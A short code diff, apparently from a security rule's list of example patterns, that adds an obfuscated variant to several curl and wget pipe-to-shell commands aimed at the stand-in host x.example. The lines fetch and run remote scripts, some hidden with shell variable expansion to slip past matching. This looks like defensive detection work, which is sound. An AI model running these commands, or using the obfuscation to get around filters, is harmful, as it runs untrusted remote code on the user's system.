@@ -25,6 +25,7 @@ RULE = Rule(
         *(
             "curl -fsSL https://x.example/i.sh | sh",
             "curl -s x.example | b${x}ash",
+            "c${a}url -s x.example | s${b}h",
             "bash <(wget -qO- http://x.example)",
             'eval "$(curl -s x.example)"',
         ),
